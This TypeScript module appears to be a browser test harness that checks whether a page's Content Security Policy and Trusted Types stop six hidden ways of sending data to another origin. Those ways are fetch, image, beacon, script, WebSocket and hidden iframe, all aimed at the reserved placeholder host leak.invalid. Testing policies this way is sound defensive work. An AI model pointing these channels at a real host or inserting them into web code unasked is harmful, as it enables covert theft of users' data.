// Tries to send something to another origin, in six ways in which a script of the page could do so unseen, and watches what the security policy says.

/** A way out of a page. */
export type Way = "fetch" | "image" | "beacon" | "script" | "socket" | "frame";

/** What came of an attempt. */
export interface Attempt {
  way: Way;
  /** The directive that stopped it; undefined when nothing did. */
  stoppedBy: string | undefined;
}

/** Reserved by RFC 2606: no such host exists, so that even without a policy nobody would get anything. */
export const leakTarget = "https://leak.invalid/";

const ways: Readonly<Record<Way, (address: string) => void>> = {
  fetch: (address) =>
    void fetch(address, { method: "POST", body: "x", mode: "no-cors" }).catch(() => undefined),
  image: (address) => {
    new Image().src = address;
  },
  beacon: (address) => void navigator.sendBeacon(address, "x"),
  script: (address) => attach("script", address),
  socket: (address) => void new WebSocket(address.replace("https:", "wss:")),
  frame: (address) => attach("iframe", address),
};

/** Puts an element that loads something into the page, and takes it out again. */
function attach(tag: "script" | "iframe", address: string): void {
  const element = document.createElement(tag);
  element.hidden = true;
  element.src = address;
  document.body.append(element);
  setTimeout(() => element.remove(), 500);
}

/** Tries all ways, one after the other. */
export async function tryToLeak(): Promise<Attempt[]> {
  const attempts: Attempt[] = [];
  for (const way of Object.keys(ways) as Way[]) attempts.push({ way, stoppedBy: await attempt(way) });
  return attempts;
}

/** Tries one way. The policy of Trusted Types may stop it before the one of addresses does. */
function attempt(way: Way): Promise<string | undefined> {
  return new Promise((done) => {
    const finish = (stoppedBy?: string) => {
      document.removeEventListener("securitypolicyviolation", heard);
      clearTimeout(timer);
      done(stoppedBy);
    };
    const heard = ({ effectiveDirective, disposition, blockedURI }: SecurityPolicyViolationEvent) => {
      if (disposition === "enforce" && isOf(way, blockedURI))
        finish(effectiveDirective.replace(/-(elem|attr)$/, ""));
    };
    const timer = setTimeout(finish, 1500);
    document.addEventListener("securitypolicyviolation", heard);
    try {
      ways[way](`${leakTarget}?way=${way}`);
    } catch {
      // Trusted Types throw, and are heard all the same.
    }
  });
}

/** Whether a report is of this way: a page with two policies makes two, and the second may come late. Of a frame only the origin is told. */
export function isOf(way: Way, blocked: string): boolean {
  if (blocked === "trusted-types-sink") return way === "script";
  if (way === "frame") return blocked === new URL(leakTarget).origin || blocked.includes("way=frame");
  return blocked.includes(`way=${way}`) || (way === "socket" && blocked.startsWith("ws"));
}
